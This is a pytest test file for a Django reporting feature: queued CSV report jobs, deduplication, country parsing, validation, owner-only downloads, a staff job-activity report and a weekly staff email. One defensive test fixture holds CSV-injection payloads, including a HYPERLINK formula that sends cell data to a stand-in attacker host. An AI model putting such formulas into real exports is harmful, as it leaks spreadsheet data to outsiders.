"""Reports (issue 16): asked through the API, deduplicated while one runs (409), built as a
streamed CSV result file with progress, downloadable by the owner only; staff's job
activity report; the weekly schedule that emails staff a link."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone

from jobs.files import download_url
from jobs.models import Job
from jobs.scheduler.declared import declared_specs
from jobs.states import State
from notifications.models import EmailDelivery
from reports.models import Customer
from tests.support import factories

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media_root")]


@pytest.fixture
def ann(db: None) -> User:
    return User.objects.create_user("ann", "ann@example.com", "pw-ann-12345")


@pytest.fixture
def customers(ann: User) -> None:
    Customer.objects.bulk_create(
        Customer(owner=ann, name=f"C{n}", email=f"c{n}@example.com", country="DE" if n % 2 else "FR")
        for n in range(1500)
    )


@pytest.fixture
def staff(db: None) -> User:
    return User.objects.create_user("ops", "ops@example.com", "pw-ops-12345", is_staff=True)


def ask(client: Client, kind: str, params: dict | None = None) -> tuple[int, dict]:
    response = client.post(
        "/api/reports", {"kind": kind, "params": params or {}}, content_type="application/json"
    )
    return response.status_code, response.json()


def download(client: Client, job_id: str) -> list[list[str]]:
    body = client.get(f"/api/jobs/{job_id}").json()
    assert body["status"] == "succeeded", body
    response = client.get(body["file"]["download_url"])
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.usefixtures("customers")
def test_my_customers_report_is_built_with_progress_and_downloaded(client: Client, ann: User) -> None:
    other = User.objects.create_user("bob", "bob@example.com", "pw-bob-12345")
    Customer.objects.create(owner=other, name="Not Ann's", email="x@example.com")
    client.force_login(ann)
    code, body = ask(client, "customers")
    assert code == 202 and body["status"] == "queued"
    job = Job.objects.get(id=body["job_id"])
    assert (job.owner, job.args) == (f"auth.user:{ann.pk}", ["customers", {}, ann.pk])
    factories.run_due()
    status = client.get(f"/api/jobs/{body['job_id']}").json()
    assert status["progress"]["done"] == status["progress"]["total"] == 1500
    assert status["progress"]["percent"] == 100
    assert status["result"]["rows"] == 1500
    assert status["file"]["filename"].startswith("customers-") and status["file"]["size"] > 0
    rows = download(client, body["job_id"])
    assert rows[0] == ["name", "email", "phone", "country", "created_at", "updated_at"]
    assert len(rows) == 1501 and rows[1][:4] == ["C0", "c0@example.com", "", "FR"]
    assert "x@example.com" not in {row[1] for row in rows}


def test_report_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(
    client: Client, ann: User
) -> None:
    # OWASP "CSV Injection": text starting with = + - @, tab or CR is a formula to Excel.
    names = ['=HYPERLINK("https://evil.example/?"&A2,"open")', "@SUM(1+1)", "+1+2", "-3+4", "\tTab", "\rCR"]
    Customer.objects.bulk_create(
        Customer(owner=ann, name=name, email=f"f{n}@example.com", phone="+49 30 1234")
        for n, name in enumerate(names)
    )
    Customer.objects.create(owner=ann, name="Plain - name", email="plain@example.com")
    client.force_login(ann)
    assert ask(client, "customers")[0] == 202
    factories.run_due()
    job = Job.objects.get(task_path="reports.tasks.build_report")
    rows = download(client, str(job.id))
    assert [row[0] for row in rows[1:]] == ["'" + name for name in names] + ["Plain - name"]
    assert {row[2] for row in rows[1:]} == {"'+49 30 1234", ""}


@pytest.mark.usefixtures("customers")
def test_a_report_can_be_filtered(client: Client, ann: User) -> None:
    client.force_login(ann)
    code, body = ask(client, "customers", {"country": "de"})
    assert code == 202
    factories.run_due()
    rows = download(client, body["job_id"])
    assert len(rows) == 751 and {row[3] for row in rows[1:]} == {"DE"}


def test_an_identical_request_while_one_runs_gets_409_with_the_running_job(client: Client, ann: User) -> None:
    client.force_login(ann)
    code, first = ask(client, "customers", {"country": "DE"})
    assert code == 202
    code, again = ask(client, "customers", {"country": "de"})
    assert code == 409
    assert again == {"error": "this report is already being made", "job_id": first["job_id"]}
    # Other parameters, or another person, are another report.
    assert ask(client, "customers", {"country": "FR"})[0] == 202
    client.force_login(User.objects.create_user("bob", "bob@example.com", "pw-bob-12345"))
    assert ask(client, "customers", {"country": "DE"})[0] == 202
    # Once it has finished, asking again makes a fresh one.
    factories.run_due()
    client.force_login(ann)
    code, fresh = ask(client, "customers", {"country": "DE"})
    assert code == 202 and fresh["job_id"] != first["job_id"]


UNKNOWN_XX = (
    "\u201cXX\u201d is not a country we know. Enter a country's name (such as Germany) "
    "or its two-letter code (such as DE), or leave it empty for all countries."
)
COUNTRY_AS_TEXT = (
    "The country must be text, not int. Enter a country's name (such as Germany) "
    "or its two-letter code (such as DE), or leave it empty for all countries."
)


@pytest.mark.parametrize(
    ("typed", "code"),
    [("Germany", "DE"), ("germany", "DE"), ("DE", "DE"), ("de", "DE"), ("DEU", "DE"), (" Georgia ", "GE"),
     ("South Korea", "KR"), ("Korea, Republic of", "KR"), ("", None)],
)  # fmt: skip
def test_a_country_is_taken_by_its_name_or_code(
    client: Client, ann: User, typed: str, code: str | None
) -> None:
    """A country's name is read as its ISO 3166 code, never cut to its first two letters
    ("Germany" once ran a report for "GE", Georgia)."""
    client.force_login(ann)
    status, body = ask(client, "customers", {"country": typed})
    assert status == 202, body
    assert Job.objects.get(id=body["job_id"]).args[1] == ({"country": code} if code else {})


@pytest.mark.parametrize(
    ("body", "fields"),
    [
        ({"kind": "everything"}, {"kind": ["must be one of: customers, job_activity"]}),
        ({"kind": "customers", "params": []}, {"params": ["must be an object"]}),
        (
            {"kind": "customers", "params": {"country": "XX"}},
            {"params.country": [UNKNOWN_XX]},
        ),
        (
            {"kind": "customers", "params": {"country": 49}},
            {"params.country": [COUNTRY_AS_TEXT]},
        ),
        ({"kind": "customers", "params": {"limit": 3}}, {"params.limit": ["unknown parameter"]}),
        ({"kind": "customers", "colour": "red"}, {"colour": ["unknown field"]}),
    ],
)  # fmt: skip
def test_a_bad_request_gets_400_saying_what_is_wrong(
    client: Client, ann: User, body: dict, fields: dict
) -> None:
    client.force_login(ann)
    response = client.post("/api/reports", body, content_type="application/json")
    assert response.status_code == 400
    assert response.json() == {"error": "invalid request", "fields": fields}
    assert not Job.objects.exists()


def test_a_bad_number_of_days_says_what_to_enter(client: Client, staff: User) -> None:
    client.force_login(staff)
    status, body = ask(client, "job_activity", {"days": 0})
    assert status == 400
    assert body["fields"] == {"params.days": ["Days must be a whole number from 1 to 366."]}
    assert not Job.objects.exists()


def test_the_api_wants_a_caller(client: Client) -> None:
    response = client.post("/api/reports", {"kind": "customers"}, content_type="application/json")
    assert response.status_code == 401


def test_a_report_file_is_its_owners_and_links_expire(client: Client, ann: User) -> None:
    client.force_login(ann)
    _, body = ask(client, "customers")
    factories.run_due()
    job = Job.objects.get(id=body["job_id"])
    url = client.get(f"/api/jobs/{job.id}").json()["file"]["download_url"]
    client.force_login(User.objects.create_user("bob", "bob@example.com", "pw-bob-12345"))
    assert client.get(url).status_code == 404
    client.force_login(ann)
    expired = download_url(job.id, job.result["file"], max_age=-5)
    assert client.get(expired).status_code == 403
    assert client.get(url).status_code == 200


def _finished(task: str, state: State, *, day: timezone.datetime, seconds: float, attempt: int = 1) -> None:
    job = factories.job(state, task_path=task, max_attempts=3, attempt=attempt)
    Job.objects.filter(id=job.id).update(
        last_attempted_at=day, finished_at=day + timedelta(seconds=seconds), started_at=day
    )


def test_job_activity_is_for_staff_with_counts_failures_and_percentiles(
    client: Client, ann: User, staff: User
) -> None:
    client.force_login(ann)
    assert ask(client, "job_activity")[0] == 403
    day = timezone.now().replace(hour=12, minute=0, second=0, microsecond=0) - timedelta(days=1)
    for n in range(1, 21):
        _finished("app.tasks.send", State.SUCCEEDED, day=day, seconds=n / 10)
    _finished("app.tasks.send", State.DEAD, day=day, seconds=5.0, attempt=3)
    _finished("app.tasks.other", State.SUCCEEDED, day=day - timedelta(days=1), seconds=1.0)
    _finished("app.tasks.old", State.SUCCEEDED, day=day - timedelta(days=30), seconds=1.0)
    client.force_login(staff)
    code, body = ask(client, "job_activity", {"days": 7})
    assert code == 202
    factories.run_due()
    rows = download(client, body["job_id"])
    assert rows[0] == ["task", "day", "finished", "succeeded", "failed", "retries", "p50_ms", "p95_ms"]
    by_task = {row[0]: row for row in rows[1:]}
    assert set(by_task) == {"app.tasks.send", "app.tasks.other"}
    send = by_task["app.tasks.send"]
    assert send[1] == timezone.localtime(day).date().isoformat()
    assert send[2:6] == ["21", "20", "1", "2"]
    # Durations 0.1 .. 2.0 s and 5 s: the median is 1.1 s, the 95th percentile 2.0 s.
    assert (float(send[6]), float(send[7])) == (1100.0, 2000.0)


def test_the_weekly_report_is_a_builtin_schedule_in_the_sites_time_zone() -> None:
    specs, broken = declared_specs()
    spec = specs["reports.weekly_job_activity"]
    assert (spec.task, spec.cron) == ("reports.tasks.weekly_report", "0 0 * * 0")
    assert spec.row_values()["time_zone"] == settings.JOBS["SCHEDULER_TIME_ZONE"] or settings.TIME_ZONE
    assert "reports.weekly_job_activity" not in broken


def test_the_weekly_report_emails_staff_a_link_once(client: Client, staff: User, smtp_settings) -> None:
    User.objects.create_user("ops2", "ops2@example.com", "pw-ops2-1234", is_staff=True)
    User.objects.create_user("ghost", "", "pw-ghost-1234", is_staff=True)
    User.objects.create_user("cus", "cus@example.com", "pw-cus-12345")
    _finished("app.tasks.send", State.SUCCEEDED, day=timezone.now() - timedelta(hours=2), seconds=0.5)
    from reports.tasks import weekly_report

    result = weekly_report.enqueue()
    factories.run_due()
    job = Job.objects.get(id=result.id)
    assert job.state == State.SUCCEEDED and job.result["emails"] == 2
    deliveries = EmailDelivery.objects.filter(purpose="weekly_report").order_by("to_address")
    assert [d.to_address for d in deliveries] == ["ops2@example.com", "ops@example.com"]
    # Run again (a retry): nobody gets a second email.
    from reports import reporting

    class Quiet:
        def set_progress(self, *args: object, **kwargs: object) -> None:
            pass

    assert reporting.weekly(job_id=result.id, context=Quiet())["emails"] == 0  # type: ignore[arg-type]
    factories.run_due(queues=("email",))
    messages = smtp_settings.messages()
    assert sorted(m["To"] for m in messages) == ["ops2@example.com", "ops@example.com"]
    body = messages[0].get_body(("plain",)).get_content()
    link = f"{settings.SITE_URL}/reports/?job={result.id}"
    assert link in body and "job activity" in body
    # The link opens the reports page showing that report to staff.
    client.force_login(staff)
    page = client.get(f"/reports/?job={result.id}").content.decode()
    assert f'watch("{result.id}")' in page
    status = client.get(f"/api/jobs/{result.id}").json()
    assert status["file"]["filename"].startswith("job-activity-week-to-")


def test_the_reports_page_lists_recent_reports_and_offers_staff_more(
    client: Client, ann: User, staff: User
) -> None:
    client.force_login(ann)
    ask(client, "customers")
    factories.run_due()
    page = client.get("/reports/").content.decode()
    assert "My imported customers" in page and "Job activity per task and day" not in page
    assert "customers-" in page  # the finished report's file, to download
    client.force_login(staff)
    assert "Job activity per task and day" in client.get("/reports/").content.decode()
    client.logout()
    assert client.get("/reports/").status_code == 302
